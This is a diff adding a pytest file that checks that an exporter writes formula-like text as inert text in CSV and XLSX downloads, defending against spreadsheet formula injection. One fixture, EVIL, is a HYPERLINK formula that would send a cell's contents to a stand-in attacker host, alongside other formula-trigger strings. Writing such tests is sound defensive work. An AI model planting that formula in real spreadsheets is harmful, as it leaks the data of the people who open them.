@@ -1,0 +1,68 @@
+"""The one writer of every download: text that a spreadsheet would run as a formula arrives as text, in CSV (with
+the quote prefix OWASP recommends) and in XLSX (a string cell showing exactly the text); numbers stay numbers."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+
+from core import exports
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+RISKY = [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\r=1+1"]
+HEADERS = ["id", "title", "score"]
+
+
+def csv_rows(response):
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+def xlsx_cells(response):
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    return [list(row) for row in book.worksheets[0].iter_rows()]
+
+
+@pytest.mark.parametrize("title", RISKY)
+def test_a_formula_like_title_arrives_in_the_csv_as_quoted_text(title):
+    response = exports.csv_response(HEADERS, [[1, title, 5]], "inovasi")
+
+    assert csv_rows(response) == [HEADERS, ["1", f"'{title}", "5"]]
+
+
+@pytest.mark.parametrize("title", RISKY)
+def test_a_formula_like_title_arrives_in_the_xlsx_as_a_string_cell_with_its_exact_text(title):
+    response = exports.xlsx_response(HEADERS, [[1, title, 5]], "inovasi", sheet="Inovasi")
+
+    header, row = xlsx_cells(response)
+    assert [c.value for c in header] == HEADERS
+    # XML reads a carriage return back as a line feed (its end-of-line rule), whoever wrote the file.
+    assert (row[1].data_type, row[1].value) == ("s", title.replace("\r", "\n"))
+    assert row[1].quotePrefix is True
+
+
+def test_numbers_stay_numbers_and_plain_text_is_left_alone():
+    row = [-7, 2.5, "-12.50", "Posyandu = sehat", "", "a-b"]
+
+    written_csv = csv_rows(exports.csv_response(["a", "b", "c", "d", "e", "f"], [row], "x"))
+    written_xlsx = xlsx_cells(exports.xlsx_response(["a", "b", "c", "d", "e", "f"], [row], "x", sheet="x"))[1]
+
+    assert written_csv[1] == ["-7", "2.5", "-12.50", "Posyandu = sehat", "", "a-b"]
+    assert [(c.data_type, c.value) for c in written_xlsx] == [
+        ("n", -7),
+        ("n", 2.5),
+        ("s", "-12.50"),
+        ("s", "Posyandu = sehat"),
+        ("n", None),
+        ("s", "a-b"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("value", "risky"),
+    [(EVIL, True), ("-1", False), ("+3.25", False), ("-1+1", True), ("@x", True), ("x=1", False), (-5, False)],
+)
+def test_what_counts_as_formula_like(value, risky):
+    assert exports.is_formula_like(value) is risky
